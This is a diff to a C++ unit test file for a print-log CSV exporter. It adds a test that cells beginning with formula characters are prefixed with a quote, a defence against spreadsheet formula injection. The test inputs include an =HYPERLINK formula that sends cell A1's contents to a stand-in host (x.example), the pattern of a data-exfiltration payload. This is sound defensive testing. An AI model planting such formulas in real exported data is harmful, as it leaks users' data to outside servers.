@@ -7,6 +7,24 @@
 #include <QJsonDocument>
 #include <QProcess>
 
+namespace {
+
+// The file's rows as a spreadsheet reader sees them (Python's csv module).
+QJsonArray csvRows(const QString& path) {
+    QProcess python;
+    python.start("python3",
+                 {"-c",
+                  "import csv, json, sys\n"
+                  "rows = list(csv.reader(open(sys.argv[1], encoding='utf-8', newline='')))\n"
+                  "print(json.dumps(rows))",
+                  path});
+    EXPECT_TRUE(python.waitForFinished(30000));
+    EXPECT_EQ(python.exitCode(), 0) << python.readAllStandardError().toStdString();
+    return QJsonDocument::fromJson(python.readAllStandardOutput()).array();
+}
+
+} // namespace
+
 TEST_F(LogTest, CsvExportKeepsTheLayoutAndEveryRowInItsOrder) {
     auto log = makeLog();
     log->SetLogFields("7-2026-12-05 09:00:07", {{"Server", "printhost"},
@@ -53,16 +71,7 @@ TEST_F(LogTest, CsvFieldsWithCommasQuotesAndLineBreaksStayInTheirColumns) {
     const QString path = inFolder("SWR_Log.csv");
     ASSERT_TRUE(WriteLogCsv(*log, path));
 
-    QProcess python;
-    python.start("python3",
-                 {"-c",
-                  "import csv, json, sys\n"
-                  "rows = list(csv.reader(open(sys.argv[1], encoding='utf-8', newline='')))\n"
-                  "print(json.dumps(rows))",
-                  path});
-    ASSERT_TRUE(python.waitForFinished(30000));
-    ASSERT_EQ(python.exitCode(), 0) << python.readAllStandardError().toStdString();
-    const QJsonArray rows = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
+    const QJsonArray rows = csvRows(path);
     ASSERT_EQ(rows.size(), 3); // header, the row, the empty last line
     const QJsonArray row = rows[1].toArray();
     ASSERT_EQ(row.size(), 20);
@@ -74,4 +83,32 @@ TEST_F(LogTest, CsvFieldsWithCommasQuotesAndLineBreaksStayInTheirColumns) {
     EXPECT_EQ(row[11].toString(), "2");
     EXPECT_EQ(row[19].toString(), comment);
     EXPECT_TRUE(rows[2].toArray().isEmpty());
+}
+
+TEST_F(LogTest, CsvCellsThatASpreadsheetWouldTakeForAFormulaStartWithAQuote) {
+    auto log = makeLog();
+    log->SetLogFields("1-x", {{"Server", "+print"},
+                              {"Queue", "-Office"},
+                              {"Description", "=1+1"},
+                              {"Computer", "@SUM(A1)"},
+                              {"User", "=HYPERLINK(\"http://x.example/?\"&A1,\"Error\")"},
+                              {"Pages", "3"},
+                              {"SWR Computer", "\tdesk"},
+                              {"SWR User", "\r=op"},
+                              {"Comments", "a=b -c +d @e"}});
+    const QString path = inFolder("SWR_Log.csv");
+    ASSERT_TRUE(WriteLogCsv(*log, path));
+    const QJsonArray rows = csvRows(path);
+    ASSERT_EQ(rows.size(), 3);
+    const QJsonArray row = rows[1].toArray();
+    ASSERT_EQ(row.size(), 20);
+    EXPECT_EQ(row[0].toString(), "'+print");
+    EXPECT_EQ(row[1].toString(), "'-Office");
+    EXPECT_EQ(row[2].toString(), "'=1+1'"); // quoted as it always was
+    EXPECT_EQ(row[3].toString(), "'@SUM(A1)");
+    EXPECT_EQ(row[4].toString(), "'=HYPERLINK(\"http://x.example/?\"&A1,\"Error\")");
+    EXPECT_EQ(row[5].toString(), "3");
+    EXPECT_EQ(row[17].toString(), "'\tdesk");
+    EXPECT_EQ(row[18].toString(), "'\r=op");
+    EXPECT_EQ(row[19].toString(), "a=b -c +d @e"); // only a cell's first character counts
 }
